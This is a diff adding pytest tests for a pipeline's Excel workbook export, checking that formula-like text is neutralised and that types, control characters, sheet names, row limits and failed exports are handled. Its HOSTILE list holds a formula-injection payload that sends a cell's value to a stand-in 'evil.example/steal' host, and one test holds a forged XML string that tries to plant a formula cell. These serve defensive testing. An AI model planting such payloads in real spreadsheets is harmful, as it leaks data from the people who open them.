@@ -1,11 +1,13 @@
 """The Excel workbook: a sheet per table, formula-like text neutralised, numbers and dates kept as such."""
 
 import datetime as dt
+import tempfile
 
 import duckdb
 import openpyxl
 import pytest
 
+from mel_pipeline import excel_export
 from mel_pipeline.excel_export import export_workbook
 
 HOSTILE = ['=HYPERLINK("http://evil.example/steal?x="&A1,"click me")', "+1", "-2", "@SUM(A1)", "\tcmd", "\rcmd"]
@@ -27,6 +29,15 @@ def workbook(tmp_path):
     out = tmp_path / "out" / "mel_marts.xlsx"
     assert export_workbook(marts, out) == out
     return out
+
+
+def export(tmp_path, *statements: str) -> openpyxl.Workbook:
+    """The workbook exported from a marts file built by running `statements`."""
+    marts = tmp_path / "mel.duckdb"
+    with duckdb.connect(str(marts)) as connection:
+        for statement in statements:
+            connection.execute(statement)
+    return openpyxl.load_workbook(export_workbook(marts, tmp_path / "out" / "mel_marts.xlsx"))
 
 
 def column(sheet, name: str) -> list:
@@ -56,6 +67,7 @@ def test_numbers_dates_and_lists_keep_their_kind(workbook):
     day, stamp = column(sheet, "day")[0], column(sheet, "stamp")[0]
     assert day.is_date and day.value == dt.datetime(2024, 1, 1) and day.number_format == "yyyy-mm-dd"
     assert stamp.is_date and stamp.value == dt.datetime(2024, 1, 1, 13, 30)
+    assert stamp.number_format == "yyyy-mm-dd hh:mm:ss"
     assert column(sheet, "flag")[1].value is True
     assert column(sheet, "tags")[0].value == "sex, state"
 
@@ -75,3 +87,74 @@ def test_a_second_export_replaces_the_first(workbook):
         connection.execute("DELETE FROM notes WHERE id > 1")
     export_workbook(marts, workbook)
     assert openpyxl.load_workbook(workbook)["notes"].max_row == 2
+
+
+def test_nan_is_left_empty_and_infinity_written_as_text(tmp_path):
+    sheet = export(tmp_path, "CREATE TABLE t (x DOUBLE)",
+                   "INSERT INTO t VALUES (1.5), ('nan'), (NULL), ('inf'), ('-inf')")["t"]
+    assert [(cell.value, cell.data_type) for cell in column(sheet, "x")] == [
+        (1.5, "n"), (None, "n"), (None, "n"), ("inf", "s"), ("-inf", "s")]
+    assert sheet.auto_filter.ref == "A1:A6"
+
+
+def test_text_loses_control_characters_and_its_line_ends_become_line_feeds(tmp_path):
+    book = export(tmp_path, "CREATE TABLE t (note VARCHAR)",
+                  "INSERT INTO t VALUES ('bell' || chr(7) || 'ed'), "
+                  "('one' || chr(13) || chr(10) || 'two' || chr(13) || 'three'), ('')")
+    assert [(cell.value, cell.data_type) for cell in column(book["t"], "note")] == [
+        ("belled", "s"), ("one\ntwo\nthree", "s"), ("", "s")]
+
+
+def test_text_shaped_like_rich_text_markup_cannot_forge_cells(tmp_path):
+    forged = '<r><t>x</t></r></is></c><c r="B2"><f>1+1</f></c><c r="C2" t="inlineStr"><is><r><t>y</t></r>'
+    book = export(tmp_path, "CREATE TABLE t (note VARCHAR)", f"INSERT INTO t VALUES ('{forged}')")
+    assert [[(cell.value, cell.data_type) for cell in row] for row in book["t"].iter_rows()] == [
+        [("note", "s")], [("'" + forged, "s")]]
+
+
+def test_other_types_keep_a_readable_form(tmp_path):
+    book = export(tmp_path, "CREATE TABLE t AS SELECT '01:30:00'::TIME AS clock, "
+                            "INTERVAL 1 DAY + INTERVAL 90 MINUTE AS span, '2024-01-01'::TIMESTAMP AS midnight, "
+                            "'2024-01-01 13:30:00+00'::TIMESTAMPTZ AS zoned, "
+                            "'5c7f335c-093e-47b9-8634-8d3f57c0004f'::UUID AS id, {'x': 1} AS pair, "
+                            "[1, NULL, 3] AS numbers")
+    clock, span, midnight, zoned, id_, pair, numbers = book["t"][2]
+    assert (clock.value, clock.number_format) == (dt.time(1, 30), "h:mm:ss")
+    assert (span.value, span.number_format) == (dt.timedelta(days=1, minutes=90), "[hh]:mm:ss")
+    assert (midnight.value, midnight.number_format) == (dt.datetime(2024, 1, 1), "yyyy-mm-dd")
+    # Excel has no time zones: the text keeps the instant, whatever the session's zone.
+    assert dt.datetime.fromisoformat(zoned.value) == dt.datetime(2024, 1, 1, 13, 30, tzinfo=dt.timezone.utc)
+    assert [(cell.value, cell.data_type) for cell in (id_, pair, numbers)] == [
+        ("5c7f335c-093e-47b9-8634-8d3f57c0004f", "s"), ("{'x': 1}", "s"), ("1, , 3", "s")]
+
+
+def test_sheet_names_cut_to_the_same_prefix_are_numbered(tmp_path):
+    book = export(tmp_path, f"CREATE TABLE {LONG_NAME} AS SELECT 1 AS n",
+                  f"CREATE TABLE {LONG_NAME}_too AS SELECT 2 AS n")
+    assert book.sheetnames == ["rejected_rows_with_a_name_longe", "rejected_rows_with_a_name_lon~2"]
+    assert [sheet["A2"].value for sheet in book.worksheets] == [1, 2]
+
+
+def test_rows_beyond_excel_limit_become_a_note(tmp_path, monkeypatch):
+    monkeypatch.setattr(excel_export, "EXCEL_MAX_ROWS", 5)
+    sheet = export(tmp_path, "CREATE TABLE t AS SELECT range AS n FROM range(10)")["t"]
+    assert [row[0].value for row in sheet.iter_rows()] == [
+        "n", 0, 1, 2, "truncated at Excel's row limit: 7 more rows in the DuckDB or Parquet marts"]
+    assert sheet.auto_filter.ref == "A1:A4"
+
+
+def test_a_failed_export_leaves_the_previous_workbook_and_no_temporary_file(workbook, monkeypatch, tmp_path):
+    before = workbook.read_bytes()
+    scratch = tmp_path / "scratch"  # where xlsxwriter keeps each sheet's rows until the workbook closes
+    scratch.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
+
+    def fail(*args):
+        raise RuntimeError("disk full")
+
+    monkeypatch.setattr(excel_export, "_write_number", fail)  # midway: after the header, at the first id
+    with pytest.raises(RuntimeError, match="disk full"):
+        export_workbook(workbook.parent.parent / "mel.duckdb", workbook)
+    assert [path.name for path in workbook.parent.iterdir()] == ["mel_marts.xlsx"]
+    assert workbook.read_bytes() == before
+    assert list(scratch.iterdir()) == []
